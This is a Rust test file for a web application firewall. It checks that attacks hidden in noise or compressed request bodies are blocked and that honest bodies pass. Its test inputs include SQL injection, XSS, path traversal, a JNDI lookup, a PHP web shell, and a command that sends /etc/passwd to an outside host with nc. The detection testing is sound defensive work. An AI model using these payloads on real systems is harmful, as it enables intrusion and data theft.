//! Attacks in bytes that are noise otherwise, by type and in any chunking; noise alone, of any size, says nothing.
#![allow(clippy::unwrap_used, reason = "tests")]

use std::io::Write as _;
use std::sync::{Arc, OnceLock};

use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};
use proptest::prelude::*;
use waf_shared::catalog::LeafSet;

use super::*;
use crate::Engine;
use crate::budget::Budget;
use crate::inspection::{Inspection, OnHit};
use crate::verdict::Verdict;

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";
const XML: &str = "application/xml";
const TEXT: &str = "text/plain";
const MULTIPART: &str = "multipart/form-data; boundary=xYzZy123";
const TYPES: [&str; 5] = [FORM, JSON, XML, TEXT, MULTIPART];

/// An inspection of a coded body.
fn inspection(media_type: &str) -> Inspection {
    static ENGINE: OnceLock<Arc<Engine>> = OnceLock::new();
    let engine = Arc::clone(ENGINE.get_or_init(|| Arc::new(crate::rules::engine())));
    let bounds = Bounds { max_inspect_size: 1 << 20, ..Bounds::DEFAULT };
    let mut inspection = Inspection::new(engine, LeafSet::defaults(), bounds, OnHit::GoOn, Budget::UNLIMITED);
    inspection.body(media_type.as_bytes());
    inspection.encoded_body(media_type.as_bytes(), 1);
    inspection
}

/// The verdict on coded bytes in pieces of `size`.
fn judge(media_type: &str, bytes: &[u8], size: usize) -> Verdict {
    let mut inspection = inspection(media_type);
    for chunk in bytes.chunks(size) {
        inspection.feed_encoded(0, chunk);
    }
    inspection.finish_encoded(Completeness::Whole);
    assert!(!inspection.is_encoded_open());
    inspection.verdict().clone()
}

fn noise(seed: u64, length: usize) -> Vec<u8> {
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_be_bytes()[0]
    };
    (0..length).map(|_| next()).collect()
}

/// `text` amid noise, behind the magic number of gzip.
fn hidden(text: &[u8], behind: usize) -> Vec<u8> {
    [b"\x1f\x8b\x08".as_slice(), &noise(7, 300), text, &noise(8, behind)].concat()
}

#[test]
fn arguments_amid_noise_are_judged() {
    for attack in [
        "&id=1' or '1'='1&",
        "&id=1%27%20union%20select%20password%20from%20users--%20&",
        "&q=<script>alert(1)</script>&",
        "&q=%3Csvg%2Fonload%3Dalert(1)%3E&",
        "&file=../../../../etc/passwd&",
        "&cmd=;cat /etc/passwd&",
        "&<script>alert(1)</script>&",
        "&a=%7b%7b7*7%7d%7d&x=${jndi:ldap://a.example/x}&",
    ] {
        for (behind, size) in [(0, 1), (300, 7), (5000, 1 << 20)] {
            let verdict = judge(FORM, &hidden(attack.as_bytes(), behind), size);
            assert!(verdict.blocks(), "{attack} {behind} {size}");
        }
    }
    // Noise within the value, and behind a name that some readers end at the zero byte.
    for attack in [
        b"&id=1' union\xa0select\xa0password\xa0from\xa0users-- \xfe\xff\x01&".as_slice(),
        b"&id=1'/*\xff*/union/*\xfe*/select/*\x80*/password/*\x81*/from/*\xff*/users#&",
        b"&id\0\x93=1' or '1'='1&",
        "&größe=1' or '1'='1&".as_bytes(),
        b"&q=\x01\x02\x03\x80\x81<script>alert(1)</script>\xff\xff\xff\xff&",
    ] {
        assert!(judge(FORM, &hidden(attack, 300), 11).blocks(), "{attack:?}");
    }
}

#[test]
fn documents_and_texts_are_judged_though_noise_follows() {
    for (media_type, attack) in [
        (JSON, r#"{"q":"<svg/onload=a()>"#),
        (JSON, r#"["<script>alert(1)</"#),
        (JSON, r#" {"id":"1' or '1'='1"#),
        (JSON, "{\"a\":\"../../etc/passw"),
        (XML, "<a><![CDATA[<script>al"),
        (TEXT, "<script>alert(1)</script>"),
        (TEXT, "please see ../../../../etc/passwd"),
        (TEXT, "; cat /etc/passwd | nc a.example 80"),
        ("", "<?php system($_GET['c']); ?>"),
    ] {
        let behind = [attack.as_bytes(), b"\"}", &noise(9, 900)].concat();
        for size in [1, 13, 1 << 20] {
            assert!(judge(media_type, &behind, size).blocks(), "{media_type} {attack}");
        }
    }
    for attack in ["<script>alert(1)</script>", "1' union select password from users -- "] {
        assert!(judge(TEXT, &hidden(attack.as_bytes(), 4000), 100).blocks(), "{attack}");
    }
}

#[test]
fn stored_literals_of_documents_are_not_read_as_text() {
    for media_type in [XML, JSON] {
        let literals = b"(\xb5\x2f\xfd<a><b i=\"81\">select w2030 and table</b>' or 1=1 \"23\">select w1";
        let verdict = judge(media_type, &[literals.as_slice(), &noise(4, 500)].concat(), 64);
        assert!(!verdict.blocks(), "{media_type} {:?}", verdict.matches);
    }
}

#[test]
fn what_begins_with_text_is_not_coded() {
    let text = b"\xef\xbb\xbfno attack, and no coding ";
    for media_type in TYPES {
        let verdict = judge(media_type, &[text.as_slice(), &noise(3, 100)].concat(), 5);
        assert_eq!(verdict.violations.len(), 1, "{media_type}");
        assert_eq!(verdict.violations[0].leaf, Leaf::HttpComplianceMalformedBody);
        assert!(!judge(media_type, &[&text[..23], b"\x00"].concat(), 5).blocks(), "{media_type}");
    }
}

#[test]
fn a_beginning_that_is_stored_content_passes() {
    let content = b"name=two chairs, and a table with a drawer";
    for (content, bytes, expected) in [
        (content.as_slice(), b"[ab]name=two chairs, and a table with a drawer\x03".as_slice(), false),
        (content, b"[name=two chairs, and a table with a drawer\x03", false),
        (content, b"name=two chairs, and a table with a drawer\x03", true),
        (content, b"[ab]nothing of what is the content, but text\x03", true),
        (b"", b"[ab]name=two chairs, and a table with a drawer\x03", true),
        (b"name=two", b"[ab]name=two chairs, and a table with a drawer\x03", true),
    ] {
        for size in [1, 5, 100] {
            let mut inspection = inspection(FORM);
            for index in 0..content.len().max(bytes.len()).div_ceil(size) {
                let piece = |all: &'static [u8]| {
                    all.get(index * size..((index + 1) * size).min(all.len())).unwrap_or_default()
                };
                inspection.feed_encoded(0, piece(bytes));
                inspection.feed(piece(content));
            }
            inspection.finish_body(Completeness::Whole);
            inspection.finish_encoded(Completeness::Whole);
            let verdict = inspection.verdict();
            assert_eq!(verdict.blocks(), expected, "{} by {size}", String::from_utf8_lossy(bytes));
        }
    }
}

#[test]
fn parts_amid_noise_are_judged() {
    let field = "Content-Disposition: form-data; name=\"id\"\r\n\r\n";
    let file = "Content-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\n";
    let upload = "Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n";
    for attack in [
        format!("\r\n--xYzZy123\r\n{field}1' or '1'='1\r\n--xYzZy123--"),
        format!("\n--xYzZy123\r\n{field}<script>alert(1)</script>\n--xYzZy123--"),
        format!("--xYzZy123\r\n{field}../../../../etc/passwd"),
        format!("\r\n--xYzZy123 \t\r\n{field}1' or '1'='1\r\n--xYzZy123"),
        format!("\r\n--xYzZy123--\r\n--xYzZy123\r\n{field}<script>alert(1)</script>\r\n--xYzZy123"),
        format!("\r\n--xYzZy123\r\n{file}<?php system($_GET['c']); ?>\r\n--xYzZy123--"),
        format!("\r\n--xYzZy123\r\n{file}\r\n--xYzZy123\r\n{field}1' or '1'='1\r\n--xYzZy123--"),
        // Where noise cuts the head of a file, readers may see a field.
        format!("\r\n--xYzZy123\r\n{}1' or '1'='1\r\n--xYzZy123--", upload.replace("a.t", "a\x1f\x08\0.t")),
        format!("\r\n--xYzZy123\r\n{}1' or '1'='1\r\n--xYzZy123--", upload.replace("=\"a", "=\x1f\x08\0\"a")),
        format!("\r\n--xYzZy123\r\n{}1' or '1'='1\r\n--xYzZy123--", upload.replace("-data", "-\x01data")),
        format!("\r\n--xYzZy123\r\nX\x02: a\r\n{upload}1' or '1'='1\r\n--xYzZy123--"),
        format!("\r\n--xYzZy123\r\n{upload}1' or '1'='1\r\n--xYzZy123--").replace("\"; f", "\"; x='; f"),
    ] {
        for size in [1, 17, 1 << 20] {
            assert!(judge(MULTIPART, &hidden(attack.as_bytes(), 500), size).blocks(), "{attack} {size}");
        }
    }
    let honest = format!("\r\n--xYzZy123\r\n{upload}1' or '1'='1\r\n--xYzZy123\r\n{field}12\r\n--xYzZy123--");
    assert!(!judge(MULTIPART, &hidden(honest.as_bytes(), 8), 9).blocks());
    // Literals that a compressor stored: what repeats is missing.
    let cut = "--xYzZy123\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\ntwo chairs\r\nfile=\"a.png\"\r\nContent-Type: image/png\r\n";
    for from in [0, 13, 20, 30, 40, 55] {
        let stored = format!("--xYzZy123\r\n{}", &cut[from..]);
        let verdict = judge(MULTIPART, &hidden(stored.as_bytes(), 9000), 700);
        assert!(!verdict.blocks(), "{from} {:?}", verdict.matches);
    }
}

fn coded(which: usize, level: u32, data: &[u8]) -> Vec<u8> {
    let level = Compression::new(level);
    match which {
        0 => {
            let mut encoder = GzEncoder::new(Vec::new(), level);
            encoder.write_all(data).unwrap();
            encoder.finish().unwrap()
        }
        1 => {
            let mut encoder = ZlibEncoder::new(Vec::new(), level);
            encoder.write_all(data).unwrap();
            encoder.finish().unwrap()
        }
        _ => {
            let mut encoder = DeflateEncoder::new(Vec::new(), level);
            encoder.write_all(data).unwrap();
            encoder.finish().unwrap()
        }
    }
}

#[test]
fn noise_of_any_size_says_nothing() {
    for (seed, length) in [(1, 10), (2, 100), (3, 1000), (4, 10_000), (5, 100_000), (6, 1 << 20)] {
        for media_type in TYPES {
            let bytes = [b"\x1f\x8b\x08".as_slice(), &noise(seed, length)].concat();
            let verdict = judge(media_type, &bytes, 16 << 10);
            assert!(!verdict.blocks(), "{media_type} {length}: {:?}", verdict.matches);
        }
    }
}

proptest! {
    #[test]
    fn honest_bodies_pass(seed: u64, words in 1usize..3000, which in 0usize..3, level in 0u32..10, media_type in 0usize..5) {
        let picked = noise(seed, words);
        let list = ["name", "=", "&page", "order", "12", " ", "chairs", "\r\n", "{\"id\": ", "}", "über", "Peter O'Neil", "3.5"];
        let data: String = picked.iter().map(|byte| list[usize::from(*byte) % list.len()]).collect();
        let bytes = coded(which, level, data.as_bytes());
        let verdict = judge(TYPES[media_type], &bytes, 1000);
        prop_assert!(!verdict.blocks(), "{:?} {:?}", verdict.matches, verdict.violations);
    }

    #[test]
    fn chunks_make_no_difference(bytes in proptest::collection::vec(any::<u8>(), 0..600), at in 0usize..600, size in 1usize..50, media_type in 0usize..5) {
        let mut bytes = bytes;
        let attack = b"\r\n--xYzZy123\r\n\r\n&id=<script>alert(1)</script>&";
        let at = at.min(bytes.len());
        bytes.splice(at..at, attack.iter().copied());
        let (whole, parts) = (judge(TYPES[media_type], &bytes, 1 << 20), judge(TYPES[media_type], &bytes, size));
        prop_assert_eq!(whole.leaves(), parts.leaves());
    }
}
